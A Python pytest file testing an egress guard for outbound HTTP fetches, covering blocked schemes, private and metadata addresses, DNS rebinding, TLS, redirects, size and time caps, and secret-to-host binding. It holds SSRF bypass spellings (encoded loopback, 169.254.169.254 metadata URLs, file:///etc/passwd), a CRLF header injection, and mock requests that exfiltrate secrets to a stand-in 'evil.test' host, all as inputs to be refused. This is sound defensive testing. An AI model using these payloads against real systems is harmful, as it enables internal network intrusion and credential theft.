"""ctx.fetch's way out: URL, address, redirect, size, time and secret rules.

Every refusal of an address or a port, a name that does not resolve and a closed port say
the egress guard's one sentence (``NOT_PUBLIC``), whatever the cause.

Positive cases talk to real servers on 127.0.0.1 (allow_private=True). Public
addresses are never dialled: names map to them through a scripted resolver and the
request lands in an httpx.MockTransport, which still shows where it would have gone.
"""

from __future__ import annotations

import asyncio
import re
import socket
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote

import httpx
import pytest

from egress import Policy
from egress.client import (
    EgressDenied,
    EgressFailed,
    EgressPolicy,
    FetchRequest,
    fetch,
    host_allowed,
)
from egress.secret_refs import SecretBinding, make_reference
from tests.fakes.egress_server import (
    EgressTestServer,
    Handler,
    RecordedRequest,
    echo,
    redirect,
    respond,
    silent,
    stream,
    trickle,
)
from tests.fakes.egress_tls import make_tls

NOT_PUBLIC = "is not a public address the platform can reach."
PUBLIC_V4 = "93.184.216.34"
PUBLIC_V6 = "2606:4700::1111"
MB = 1024 * 1024

WEATHER = SecretBinding(
    name="WEATHER_KEY",
    value="wk-9f8e7d6c/5b+a=",
    allowed_hosts=("api.weather.test",),
    reference=make_reference("WEATHER_KEY"),
)
DB_PASSWORD = SecretBinding(
    name="DB_PASSWORD",
    value="hunter2hunter2",
    allowed_hosts=("db.example.test",),
    reference=make_reference("DB_PASSWORD"),
)


class FakeResolver:
    """Scripted DNS that counts lookups; ``later`` answers every lookup after the first."""

    def __init__(
        self, answers: dict[str, list[str]], later: dict[str, list[str]] | None = None
    ) -> None:
        self.answers = answers
        self.later = later or {}
        self.calls: list[str] = []

    async def __call__(self, host: str, port: int) -> list[str]:
        self.calls.append(host)
        if host in self.later and self.calls.count(host) > 1:
            return self.later[host]
        if host not in self.answers:
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        return self.answers[host]


class MockUpstream:
    """Stands in for the public internet: records what would have been sent where."""

    def __init__(self, *responses: httpx.Response) -> None:
        self.responses = list(responses)
        self.requests: list[httpx.Request] = []
        self.client = httpx.AsyncClient(transport=httpx.MockTransport(self._handle))

    def _handle(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        scripted = self.responses.pop(0) if self.responses else httpx.Response(200, text="ok")
        # As off the wire: a body still to be streamed, not one already read.
        return httpx.Response(
            scripted.status_code,
            headers=scripted.headers,
            stream=httpx.ByteStream(scripted.content),
        )


@pytest.fixture
async def server() -> AsyncIterator[EgressTestServer]:
    async with EgressTestServer() as running:
        yield running


def local(server: EgressTestServer, **overrides: Any) -> EgressPolicy:
    """Lets the test reach its own server on 127.0.0.1."""
    return EgressPolicy(
        guard=Policy(allow_private=True, ports=frozenset({server.port})), **overrides
    )


async def refused(url: str, **kwargs: Any) -> EgressDenied:
    kwargs.setdefault("policy", EgressPolicy())
    with pytest.raises(EgressDenied) as caught:
        await fetch(FetchRequest(url), **kwargs)
    return caught.value


# --- schemes and ports ---------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "ftp://files.example.com/pub",
        "data:text/plain,hello",
        "javascript:alert(1)",
        "gopher://example.com:70/",
        "ws://example.com/socket",
    ],
)
async def test_only_http_and_https_may_leave(url: str) -> None:
    resolver = FakeResolver({})
    error = await refused(url, resolver=resolver)
    assert str(error) == "the URL must start with http:// or https:// and name a host"
    assert resolver.calls == []


@pytest.mark.parametrize(
    ("url", "allowed", "port"),
    [
        ("http://public.test:8080/", {80, 443}, 8080),
        ("https://public.test:22/", {80, 443}, 22),
        ("http://public.test/", {443}, 80),  # implied by the scheme
        ("https://public.test/", {80}, 443),
    ],
)
async def test_ports_outside_the_policy_are_refused_before_dns(
    url: str, allowed: set[int], port: int
) -> None:
    resolver = FakeResolver({"public.test": [PUBLIC_V4]})
    error = await refused(
        url, policy=EgressPolicy(guard=Policy(ports=frozenset(allowed))), resolver=resolver
    )
    assert str(error) == f"public.test:{port} {NOT_PUBLIC}"
    assert resolver.calls == []


async def test_an_allowed_port_reaches_the_server(server: EgressTestServer) -> None:
    server.route("/hello", respond(200, b"hi", [("X-Reply", "1")]))
    response = await fetch(FetchRequest(server.url("/hello")), policy=local(server))
    assert (response.status, response.body, response.url) == (200, b"hi", server.url("/hello"))
    assert ("x-reply", "1") in response.headers


@pytest.mark.parametrize("method", ["CONNECT", "TRACE", "BREW"])
async def test_odd_methods_are_refused(method: str) -> None:
    with pytest.raises(EgressDenied, match=f"method {method} is not allowed"):
        await fetch(FetchRequest("http://public.test/", method=method), policy=EgressPolicy())


# --- addresses -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("http://127.0.0.1/", "loopback"),
        ("http://127.8.9.10:80/", "loopback"),
        ("http://0.0.0.0/", "unspecified"),
        ("http://10.1.2.3/", "private"),
        ("http://172.16.0.1/", "private"),
        ("http://192.168.1.1/", "private"),
        ("http://169.254.169.254/latest/meta-data/", "link-local"),
        ("http://100.64.0.1/", "CGNAT"),
        ("http://100.127.255.254/", "CGNAT"),
        ("http://224.0.0.1/", "multicast"),
        ("http://240.0.0.1/", "reserved"),
        ("http://255.255.255.255/", "reserved"),
        ("http://192.0.2.1/", "documentation"),
        ("http://198.18.0.1/", "benchmarking"),
        ("http://[::1]/", "loopback"),
        ("http://[::]/", "unspecified"),
        ("http://[fe80::1]/", "link-local"),
        ("http://[fc00::1]/", "private"),
        ("http://[fd12:3456::1]/", "private"),
        ("http://[fec0::1]/", "site-local"),
        ("http://[ff02::1]/", "multicast"),
        ("http://[2001:db8::1]/", "documentation"),
        ("http://[::ffff:127.0.0.1]/", "loopback, inside an IPv6 address"),
        ("http://[::ffff:169.254.169.254]/", "link-local, inside an IPv6 address"),
        ("http://[::ffff:10.0.0.1]/", "private, inside an IPv6 address"),
        ("http://[::127.0.0.1]/", "IPv4-compatible"),
        ("http://[64:ff9b::10.0.0.1]/", "private, inside an IPv6 address"),
        ("http://[64:ff9b::127.0.0.1]/", "loopback, inside an IPv6 address"),
        ("http://[2002:a00:1::1]/", "6to4"),
        ("http://[2002:7f00:1::1]/", "6to4"),
    ],
)
async def test_literal_addresses_that_are_not_public_are_refused(url: str, reason: str) -> None:
    resolver = FakeResolver({})
    error = await refused(url, resolver=resolver)
    assert str(error).endswith(NOT_PUBLIC)  # the class of address is never named
    assert reason not in str(error)
    assert resolver.calls == []


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("http://2130706433/", "loopback"),  # decimal
        ("http://0x7f.0.0.1/", "loopback"),  # hex octet
        ("http://0x7f000001/", "loopback"),  # one hex number
        ("http://0177.1/", "loopback"),  # octal, short form
        ("http://017700000001/", "loopback"),  # one octal number
        ("http://127.1/", "loopback"),  # short form
        ("http://127.0.0.1./", "loopback"),  # trailing dot
        ("http://0/", "unspecified"),
        ("http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/", "link-local"),
        ("http://3232235777/", "private"),  # 192.168.1.1
    ],
)
async def test_odd_ipv4_spellings_are_read_as_the_os_would(url: str, reason: str) -> None:
    resolver = FakeResolver({})
    error = await refused(url, resolver=resolver)
    assert str(error).endswith(NOT_PUBLIC) and reason not in str(error)
    assert resolver.calls == []


@pytest.mark.parametrize(
    "url", ["http://0177.0.0.1/", "http://1.2.3.999/", "http://1.2.3.0x100/", "http://a.b.0x/"]
)
async def test_malformed_numeric_hosts_are_refused(url: str) -> None:
    resolver = FakeResolver({"a.b.0x": [PUBLIC_V4]})
    await refused(url, resolver=resolver)
    assert resolver.calls == []


@pytest.mark.parametrize(
    ("answers", "reason"),
    [
        (["10.0.0.5"], "private"),
        (["127.0.0.1"], "loopback"),
        (["169.254.169.254"], "link-local"),
        (["100.64.1.1"], "CGNAT"),
        (["::1"], "loopback"),
        (["::ffff:127.0.0.1"], "loopback"),
        (["64:ff9b::a00:5"], "private"),
        ([PUBLIC_V4, "10.0.0.5"], "private"),  # one bad answer spoils the set
        ([PUBLIC_V6, "fe80::1"], "link-local"),
    ],
)
async def test_a_name_resolving_to_any_non_public_address_is_refused(
    answers: list[str], reason: str
) -> None:
    upstream = MockUpstream()
    resolver = FakeResolver({"internal.test": answers})
    error = await refused("https://internal.test/admin", resolver=resolver, client=upstream.client)
    assert str(error) == f"internal.test:443 {NOT_PUBLIC}" and reason not in str(error)
    assert answers[-1] not in str(error)  # no map of the internal network for the author
    assert upstream.requests == []


async def test_localhost_is_refused_through_its_answer() -> None:
    resolver = FakeResolver({"localhost": ["127.0.0.1", "::1"]})
    error = await refused("http://localhost/", resolver=resolver)
    assert str(error) == f"localhost:80 {NOT_PUBLIC}"
    assert resolver.calls == []  # known without asking


async def test_an_unknown_name_fails_without_a_connection() -> None:
    upstream = MockUpstream()
    with pytest.raises(EgressDenied, match=re.escape(f"nowhere.test:80 {NOT_PUBLIC}")):
        await fetch(
            FetchRequest("http://nowhere.test/"),
            policy=EgressPolicy(),
            resolver=FakeResolver({}),
            client=upstream.client,
        )
    assert upstream.requests == []


@pytest.mark.parametrize(
    ("url", "address"),
    [
        (f"http://{PUBLIC_V4}/x", PUBLIC_V4),
        (f"http://[{PUBLIC_V6}]/x", PUBLIC_V6),
        ("http://[64:ff9b::5db8:d822]/x", "64:ff9b::5db8:d822"),  # NAT64 of a public IPv4
    ],
)
async def test_public_literals_go_out(url: str, address: str) -> None:
    upstream = MockUpstream()
    response = await fetch(FetchRequest(url), policy=EgressPolicy(), client=upstream.client)
    assert response.status == 200
    assert upstream.requests[0].url.host == address


async def test_a_public_name_connects_to_its_vetted_address_with_host_and_sni() -> None:
    upstream = MockUpstream()
    resolver = FakeResolver({"public.test": [PUBLIC_V4]})
    response = await fetch(
        FetchRequest("https://public.test/v1/items?page=2"),
        policy=EgressPolicy(),
        resolver=resolver,
        client=upstream.client,
    )
    sent = upstream.requests[0]
    assert str(sent.url) == f"https://{PUBLIC_V4}/v1/items?page=2"
    assert sent.headers["host"] == "public.test"
    assert sent.extensions["sni_hostname"] == "public.test"
    assert response.url == "https://public.test/v1/items?page=2"


async def test_an_ip_literal_over_https_sends_no_sni_name() -> None:
    upstream = MockUpstream()
    await fetch(
        FetchRequest(f"https://{PUBLIC_V4}/"), policy=EgressPolicy(), client=upstream.client
    )
    assert "sni_hostname" not in upstream.requests[0].extensions


# --- DNS rebinding -------------------------------------------------------------------


async def test_the_name_is_resolved_once_and_the_first_answer_is_used() -> None:
    upstream = MockUpstream()
    resolver = FakeResolver({"rebind.test": [PUBLIC_V4]}, later={"rebind.test": ["127.0.0.1"]})
    await fetch(
        FetchRequest("https://rebind.test/x"),
        policy=EgressPolicy(),
        resolver=resolver,
        client=upstream.client,
    )
    assert resolver.calls == ["rebind.test"]
    assert upstream.requests[0].url.host == PUBLIC_V4
    assert upstream.requests[0].headers["host"] == "rebind.test"


async def test_a_real_connection_never_looks_the_name_up_again(server: EgressTestServer) -> None:
    # The system resolver knows no rebind.test, so reaching the server at all proves
    # the connection went to the vetted answer rather than to a fresh lookup.
    server.route("/x", respond(200, b"pinned"))
    resolver = FakeResolver({"rebind.test": ["127.0.0.1"]}, later={"rebind.test": ["192.0.2.1"]})
    response = await fetch(
        FetchRequest(server.url("/x", host="rebind.test")), policy=local(server), resolver=resolver
    )
    assert response.body == b"pinned"
    assert resolver.calls == ["rebind.test"]
    assert server.requests[0].headers["host"] == f"rebind.test:{server.port}"


async def test_a_redirect_back_to_the_same_name_is_vetted_again() -> None:
    upstream = MockUpstream(httpx.Response(302, headers={"location": "/again"}))
    resolver = FakeResolver({"rebind.test": [PUBLIC_V4]}, later={"rebind.test": ["127.0.0.1"]})
    error = await refused("https://rebind.test/x", resolver=resolver, client=upstream.client)
    assert str(error) == f"rebind.test:443 {NOT_PUBLIC}"
    assert len(upstream.requests) == 1


# --- TLS -----------------------------------------------------------------------------


async def test_https_to_a_pinned_address_checks_the_certificate_of_the_name(
    tmp_path: Path,
) -> None:
    tls = make_tls(tmp_path, ["api.public.test"])
    async with EgressTestServer(tls.server) as server:
        server.route("/secure", respond(200, b"tls ok"))
        async with httpx.AsyncClient(verify=tls.client, trust_env=False) as client:
            response = await fetch(
                FetchRequest(server.url("/secure", host="api.public.test", scheme="https")),
                policy=local(server),
                resolver=FakeResolver({"api.public.test": ["127.0.0.1"]}),
                client=client,
            )
    assert response.body == b"tls ok"
    assert server.sni_names == ["api.public.test"]
    assert server.requests[0].headers["host"] == f"api.public.test:{server.port}"


async def test_a_certificate_for_another_name_is_rejected(tmp_path: Path) -> None:
    tls = make_tls(tmp_path, ["someone-else.test"])
    async with EgressTestServer(tls.server) as server:
        server.route("/secure", respond(200, b"should not be read"))
        async with httpx.AsyncClient(verify=tls.client, trust_env=False) as client:
            with pytest.raises(EgressFailed, match=re.escape("TLS certificate of api.public.test")):
                await fetch(
                    FetchRequest(server.url("/secure", host="api.public.test", scheme="https")),
                    policy=local(server),
                    resolver=FakeResolver({"api.public.test": ["127.0.0.1"]}),
                    client=client,
                )
    assert server.requests == []


# --- redirects -----------------------------------------------------------------------


async def test_a_redirect_chain_is_followed_by_hand(server: EgressTestServer) -> None:
    server.route("/a", redirect("/b"))
    server.route("/b", redirect(server.url("/c"), status=301))
    server.route("/c", respond(200, b"done"))
    response = await fetch(FetchRequest(server.url("/a")), policy=local(server))
    assert (response.status, response.body, response.url) == (200, b"done", server.url("/c"))
    assert [r.target for r in server.requests] == ["/a", "/b", "/c"]


@pytest.mark.parametrize(
    ("status", "method", "expected_method", "keeps_body"),
    [
        (303, "POST", "GET", False),
        (303, "PUT", "GET", False),
        (302, "POST", "GET", False),
        (301, "POST", "GET", False),
        (302, "PUT", "PUT", True),
        (307, "POST", "POST", True),
        (308, "PUT", "PUT", True),
    ],
)
async def test_redirects_switch_or_keep_method_and_body(
    server: EgressTestServer, status: int, method: str, expected_method: str, keeps_body: bool
) -> None:
    server.route("/form", redirect("/landing", status=status))
    server.route("/landing", echo())
    request = FetchRequest(
        server.url("/form"),
        method=method,
        headers={"Content-Type": "application/json"},
        body='{"order": 1}',
    )
    await fetch(request, policy=local(server))
    landing = server.requests[-1]
    assert landing.method == expected_method
    assert landing.body == (b'{"order": 1}' if keeps_body else b"")
    assert ("content-type" in landing.headers) is keeps_body


def _chain(server: EgressTestServer, hops: int) -> None:
    for index in range(hops):
        server.route(f"/r{index}", redirect(f"/r{index + 1}"))
    server.route(f"/r{hops}", respond(200, b"end"))


async def test_five_redirects_are_followed(server: EgressTestServer) -> None:
    _chain(server, 5)
    response = await fetch(FetchRequest(server.url("/r0")), policy=local(server))
    assert response.body == b"end"


async def test_a_sixth_redirect_is_refused(server: EgressTestServer) -> None:
    _chain(server, 6)
    with pytest.raises(EgressDenied, match="redirected more than 5 times"):
        await fetch(FetchRequest(server.url("/r0")), policy=local(server))
    assert [r.target for r in server.requests][-1] == "/r5"


@pytest.mark.parametrize(
    ("location", "rule"),
    [
        ("http://internal.test/admin", f"internal.test:80 {NOT_PUBLIC}"),
        ("http://169.254.169.254/latest/meta-data/", f"169.254.169.254:80 {NOT_PUBLIC}"),
        ("http://[::ffff:127.0.0.1]/", f"[::ffff:7f00:1]:80 {NOT_PUBLIC}"),
        ("http://2130706433/", f"127.0.0.1:80 {NOT_PUBLIC}"),
        ("http://0x7f00000a/", f"127.0.0.10:80 {NOT_PUBLIC}"),
        ("http://nowhere.test/", f"nowhere.test:80 {NOT_PUBLIC}"),
        ("file:///etc/passwd", "must start with http:// or https://"),
        ("http://public.test:6379/", f"public.test:6379 {NOT_PUBLIC}"),
    ],
)
async def test_a_public_host_redirecting_inwards_is_refused(location: str, rule: str) -> None:
    upstream = MockUpstream(httpx.Response(302, headers={"location": location}))
    resolver = FakeResolver({"public.test": [PUBLIC_V4], "internal.test": ["10.0.0.1"]})
    error = await refused("https://public.test/start", resolver=resolver, client=upstream.client)
    assert rule in str(error) and "redirect" not in str(error)
    assert len(upstream.requests) == 1


TOKEN = SecretBinding(
    name="TOKEN",
    value="tok-abcdef123456",
    allowed_hosts=("a.test", "b.test"),
    reference=make_reference("TOKEN"),
)


@pytest.mark.parametrize(
    "secret_header", [TOKEN.reference, TOKEN.value], ids=["reference", "value"]
)
@pytest.mark.parametrize(("landing_host", "kept"), [("a.test", True), ("b.test", False)])
async def test_a_redirect_to_another_host_drops_credentials(
    server: EgressTestServer, secret_header: str, landing_host: str, kept: bool
) -> None:
    server.route("/start", redirect(server.url("/landing", host=landing_host)))
    server.route("/landing", respond(200, b"landed"))
    request = FetchRequest(
        server.url("/start", host="a.test"),
        headers={
            "Authorization": "Bearer plain-session",
            "X-Api-Key": secret_header,
            "X-Trace": "keep-me",
        },
    )
    resolver = FakeResolver({"a.test": ["127.0.0.1"], "b.test": ["127.0.0.1"]})
    await fetch(request, policy=local(server), secrets=[TOKEN], resolver=resolver)
    landing = server.requests[-1]
    assert landing.headers["host"] == f"{landing_host}:{server.port}"
    assert landing.headers["x-trace"] == "keep-me"
    assert ("authorization" in landing.headers) is kept
    assert landing.headers.get("x-api-key") == (TOKEN.value if kept else None)


async def test_a_307_carrying_a_secret_body_to_a_host_not_allowed_is_refused(
    server: EgressTestServer,
) -> None:
    only_a = SecretBinding("TOKEN", TOKEN.value, ("a.test",), TOKEN.reference)
    server.route("/start", redirect(server.url("/landing", host="b.test"), status=307))
    request = FetchRequest(
        server.url("/start", host="a.test"), method="POST", body=f'{{"t": "{TOKEN.reference}"}}'
    )
    resolver = FakeResolver({"a.test": ["127.0.0.1"], "b.test": ["127.0.0.1"]})
    with pytest.raises(
        EgressDenied, match=r"secret TOKEN may not be sent to b.test \(allowed: a.test\)"
    ):
        await fetch(request, policy=local(server), secrets=[only_a], resolver=resolver)
    assert [r.target for r in server.requests] == ["/start"]
    assert server.requests[0].body == f'{{"t": "{TOKEN.value}"}}'.encode()


# --- size and time -------------------------------------------------------------------


async def test_a_50_mb_response_is_cut_at_the_cap(server: EgressTestServer) -> None:
    server.route("/huge", stream(50 * MB))
    with pytest.raises(
        EgressDenied, match=re.escape("response from 127.0.0.1 is larger than 5 MB")
    ):
        await fetch(FetchRequest(server.url("/huge")), policy=local(server))
    await asyncio.sleep(0.2)  # let the server notice the closed connection
    assert server.bytes_sent < 25 * MB


async def _head_of_50_mb(request: RecordedRequest, writer: asyncio.StreamWriter, _: object) -> None:
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 52428800\r\n\r\n")
    await asyncio.sleep(3600)


async def test_a_declared_length_over_the_cap_is_refused_before_reading(
    server: EgressTestServer,
) -> None:
    server.route("/big", _head_of_50_mb)
    started = time.monotonic()
    with pytest.raises(EgressDenied, match="larger than 5 MB"):
        await fetch(FetchRequest(server.url("/big")), policy=local(server, timeout_s=5.0))
    assert time.monotonic() - started < 2


async def test_a_head_request_is_not_judged_by_the_length_it_announces(
    server: EgressTestServer,
) -> None:
    server.route("/big", _head_of_50_mb)
    response = await fetch(FetchRequest(server.url("/big"), method="HEAD"), policy=local(server))
    assert (response.status, response.body) == (200, b"")
    assert ("content-length", "52428800") in response.headers


@pytest.mark.parametrize(("size", "allowed"), [(1000, True), (1001, False)])
async def test_the_cap_is_inclusive(server: EgressTestServer, size: int, allowed: bool) -> None:
    server.route("/body", stream(size, chunk=size))
    policy = local(server, max_response_bytes=1000)
    if allowed:
        response = await fetch(FetchRequest(server.url("/body")), policy=policy)
        assert len(response.body) == size
    else:
        with pytest.raises(EgressDenied, match="larger than 1000 bytes"):
            await fetch(FetchRequest(server.url("/body")), policy=policy)


@pytest.mark.timeout(10)  # without the overall cap, the trickle would run for hours
@pytest.mark.parametrize("handler", [trickle(), silent()], ids=["trickle", "silent"])
async def test_the_whole_request_is_capped_in_time(
    server: EgressTestServer, handler: Handler
) -> None:
    server.route("/slow", handler)
    started = time.monotonic()
    with pytest.raises(EgressFailed, match=r"took longer than 0\.5 s|timed out"):
        await fetch(FetchRequest(server.url("/slow")), policy=local(server, timeout_s=0.5))
    assert time.monotonic() - started < 2


async def test_a_closed_port_fails_cleanly() -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    policy = EgressPolicy(guard=Policy(allow_private=True, ports=frozenset({port})))
    with pytest.raises(EgressFailed, match=re.escape("could not connect to 127.0.0.1")):
        await fetch(FetchRequest(f"http://127.0.0.1:{port}/"), policy=policy)


# --- secrets -------------------------------------------------------------------------


def weather(server: EgressTestServer, path: str, host: str = "api.weather.test") -> str:
    return server.url(path, host=host)


WEATHER_DNS = {name: ["127.0.0.1"] for name in ("api.weather.test", "evil.test")}


async def test_a_reference_in_a_header_becomes_the_value_for_an_allowed_host(
    server: EgressTestServer,
) -> None:
    server.route("/forecast", respond(200, b"sunny"))
    request = FetchRequest(weather(server, "/forecast"), headers={"X-Api-Key": WEATHER.reference})
    response = await fetch(
        request, policy=local(server), secrets=[WEATHER], resolver=FakeResolver(WEATHER_DNS)
    )
    assert response.body == b"sunny"
    assert server.requests[0].headers["x-api-key"] == WEATHER.value


async def test_a_reference_in_the_url_becomes_the_encoded_value(server: EgressTestServer) -> None:
    server.route("/forecast", respond(200, b"sunny"))
    url = weather(server, f"/forecast?key={WEATHER.reference}&city=Paris")
    response = await fetch(
        FetchRequest(url),
        policy=local(server),
        secrets=[WEATHER],
        resolver=FakeResolver(WEATHER_DNS),
    )
    assert unquote(server.requests[0].target) == f"/forecast?key={WEATHER.value}&city=Paris"
    assert WEATHER.reference in response.url and WEATHER.value not in unquote(response.url)


@pytest.mark.parametrize("as_bytes", [False, True])
async def test_a_reference_in_the_body_becomes_the_value(
    server: EgressTestServer, as_bytes: bool
) -> None:
    server.route("/forecast", respond(200, b"ok"))
    body = f'{{"key": "{WEATHER.reference}"}}'
    request = FetchRequest(
        weather(server, "/forecast"), method="POST", body=body.encode() if as_bytes else body
    )
    await fetch(
        request, policy=local(server), secrets=[WEATHER], resolver=FakeResolver(WEATHER_DNS)
    )
    assert server.requests[0].body == f'{{"key": "{WEATHER.value}"}}'.encode()


@pytest.mark.parametrize(("host", "allowed"), [("eu.weather.test", True), ("weather.test", False)])
async def test_a_wildcard_allows_subdomains_but_not_the_apex(
    server: EgressTestServer, host: str, allowed: bool
) -> None:
    wildcard = SecretBinding("WEATHER_KEY", WEATHER.value, ("*.weather.test",), WEATHER.reference)
    server.route("/forecast", respond(200, b"ok"))
    request = FetchRequest(
        weather(server, "/forecast", host=host), headers={"K": WEATHER.reference}
    )
    resolver = FakeResolver({host: ["127.0.0.1"]})
    if allowed:
        await fetch(request, policy=local(server), secrets=[wildcard], resolver=resolver)
        assert server.requests[0].headers["k"] == WEATHER.value
    else:
        with pytest.raises(
            EgressDenied, match=re.escape("secret WEATHER_KEY may not be sent to weather.test")
        ):
            await fetch(request, policy=local(server), secrets=[wildcard], resolver=resolver)


def _aimed_at_evil(server: EgressTestServer, where: str, token: str) -> FetchRequest:
    url = server.url("/collect", host="evil.test")
    if where == "url":
        return FetchRequest(f"{url}?k={token}")
    if where == "encoded url":
        return FetchRequest(f"{url}?k={quote_all(token)}")
    if where == "header":
        return FetchRequest(url, headers={"X-Stolen": token})
    if where == "json body":
        return FetchRequest(url, method="POST", body=f'{{"k": "{token}"}}')
    return FetchRequest(url, method="POST", body=f"k={quote_all(token)}".encode())


def quote_all(text: str) -> str:
    return quote(text, safe="")


WHERE = ["url", "encoded url", "header", "json body", "form body"]


@pytest.mark.parametrize("where", WHERE)
async def test_a_reference_aimed_at_a_host_not_allowed_is_refused(
    server: EgressTestServer, where: str
) -> None:
    # References are plain [A-Za-z0-9_]: encoded or not, they read the same.
    resolver = FakeResolver(WEATHER_DNS)
    request = _aimed_at_evil(server, where, WEATHER.reference)
    with pytest.raises(EgressDenied) as caught:
        await fetch(request, policy=local(server), secrets=[WEATHER], resolver=resolver)
    assert str(caught.value) == (
        "secret WEATHER_KEY may not be sent to evil.test (allowed: api.weather.test)"
    )
    assert resolver.calls == []  # refused before DNS
    assert server.requests == []


@pytest.mark.parametrize("where", WHERE)
async def test_a_pinned_handler_cannot_exfiltrate_a_real_value(
    server: EgressTestServer, where: str
) -> None:
    resolver = FakeResolver(WEATHER_DNS)
    request = _aimed_at_evil(server, where, WEATHER.value)
    with pytest.raises(EgressDenied) as caught:
        await fetch(request, policy=local(server), secrets=[WEATHER], resolver=resolver)
    assert str(caught.value) == (
        "secret WEATHER_KEY may not be sent to evil.test (allowed: api.weather.test)"
    )
    assert WEATHER.value not in str(caught.value)
    assert resolver.calls == []
    assert server.requests == []


async def test_a_value_spelled_into_a_host_name_never_reaches_dns_or_the_message() -> None:
    resolver = FakeResolver({})
    error = await refused(
        f"https://{DB_PASSWORD.value}.evil.test/", secrets=[DB_PASSWORD], resolver=resolver
    )
    assert DB_PASSWORD.value not in str(error)
    assert "secret DB_PASSWORD may not be sent to [secret DB_PASSWORD].evil.test" in str(error)
    assert resolver.calls == []


async def test_a_value_is_found_in_a_host_name_whatever_its_case() -> None:
    mixed = SecretBinding("DB_PASSWORD", "Hunter2Hunter2", ("db.example.test",), "unused-ref")
    resolver = FakeResolver({})
    error = await refused("https://hunter2hunter2.evil.test/", secrets=[mixed], resolver=resolver)
    assert "hunter2hunter2" not in str(error).lower()
    assert resolver.calls == []


async def test_a_reference_cannot_become_part_of_a_host_name() -> None:
    # make_reference's upper-case names never survive host lower-casing; a caller's
    # own lower-case reference must not turn a host name into the value either.
    reference = "secret_ref_db_password_0123456789abcdef"
    wildcard = SecretBinding("DB_PASSWORD", DB_PASSWORD.value, ("*.evil.test",), reference)
    resolver = FakeResolver({})
    error = await refused(f"https://{reference}.evil.test/", secrets=[wildcard], resolver=resolver)
    assert "secrets may not be used in the scheme, host or port" in str(error)
    assert DB_PASSWORD.value not in str(error)
    assert resolver.calls == []


async def test_secret_values_echoed_back_reach_the_handler_as_references(
    server: EgressTestServer,
) -> None:
    server.route("/echo", echo())
    request = FetchRequest(
        weather(server, "/echo"), method="POST", body=f"your key is {WEATHER.reference}"
    )
    response = await fetch(
        request, policy=local(server), secrets=[WEATHER], resolver=FakeResolver(WEATHER_DNS)
    )
    assert server.requests[0].body == f"your key is {WEATHER.value}".encode()
    assert response.body == f"your key is {WEATHER.reference}".encode()


async def test_managed_headers_from_the_handler_are_ignored(server: EgressTestServer) -> None:
    server.route("/h", respond(200, b"ok"))
    request = FetchRequest(
        weather(server, "/h"),
        headers={
            "Host": "admin.internal",
            "Content-Length": "99",
            "Accept-Encoding": "gzip",
            "X-Mine": "yes",
        },
    )
    await fetch(request, policy=local(server), resolver=FakeResolver(WEATHER_DNS))
    seen = server.requests[0].headers
    assert seen["host"] == f"api.weather.test:{server.port}"
    assert seen["accept-encoding"] == "identity"  # no decompression bombs
    assert seen["x-mine"] == "yes"
    assert "content-length" not in seen or seen["content-length"] == "0"


@pytest.mark.parametrize(
    "headers", [{"X-Note": "a\r\nX-Injected: 1"}, {"Bad Name": "v"}, {"X-Note": "caf\u00e9"}]
)
async def test_headers_that_are_not_plain_http_are_refused(
    server: EgressTestServer, headers: dict[str, str]
) -> None:
    with pytest.raises(EgressDenied, match="is not a valid HTTP header"):
        await fetch(FetchRequest(server.url("/"), headers=headers), policy=local(server))
    assert server.requests == []


# --- the small helpers ---------------------------------------------------------------


def test_references_are_unguessable_and_name_their_secret() -> None:
    first, second = make_reference("WEATHER_KEY"), make_reference("WEATHER_KEY")
    assert first != second
    assert re.fullmatch(r"secret_ref_WEATHER_KEY_[0-9a-f]{32}", first)


@pytest.mark.parametrize(
    ("allowed", "host", "expected"),
    [
        (("api.example.com",), "api.example.com", True),
        (("api.example.com",), "API.example.com.", True),
        (("api.example.com",), "example.com", False),
        (("*.example.com",), "eu.api.example.com", True),
        (("*.example.com",), "example.com", False),
        (("*.example.com",), "badexample.com", False),
        ((), "example.com", False),
    ],
)
def test_host_allowed(allowed: tuple[str, ...], host: str, expected: bool) -> None:
    assert host_allowed(allowed, host) is expected


async def test_a_refused_fetch_is_logged_without_the_url_the_handler_chose(caplog) -> None:
    caplog.set_level("DEBUG")
    with pytest.raises(EgressDenied):
        await fetch(
            FetchRequest("https://card-4111111111111111.example.test:8443/"),
            policy=EgressPolicy(),
        )
    assert "4111111111111111" not in caplog.text


# --- one sentence: no map of the network behind the platform -------------------------


class RefusingUpstream(MockUpstream):
    """A public address whose port is closed: the connection is refused."""

    def _handle(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        raise httpx.ConnectError("[Errno 111] Connection refused")


async def test_loopback_an_unknown_name_and_a_closed_port_say_the_same_sentence() -> None:
    resolver = FakeResolver({"inside.test": ["127.0.0.1"], "closed.test": [PUBLIC_V4]})
    closed = RefusingUpstream()
    answers = [
        await refused("https://inside.test/", resolver=resolver),
        await refused("https://nowhere.test/", resolver=resolver),
        await refused("https://closed.test/", resolver=resolver, client=closed.client),
    ]
    shown = {str(error).split(" ", 1)[1] for error in answers}
    assert shown == {NOT_PUBLIC}
    assert [type(error) for error in answers] == [EgressDenied] * 3
    assert len(closed.requests) == 1  # the closed port was really tried


async def test_the_same_sentence_for_many_hosts_at_once() -> None:
    resolver = FakeResolver({f"h{i}.test": ["10.0.0.1" if i % 2 else "::1"] for i in range(20)})
    errors = await asyncio.gather(
        *(refused(f"https://h{i}.test/", resolver=resolver) for i in range(20)),
        *(refused(f"https://gone{i}.test/", resolver=resolver) for i in range(20)),
    )
    assert {str(error).split(" ", 1)[1] for error in errors} == {NOT_PUBLIC}
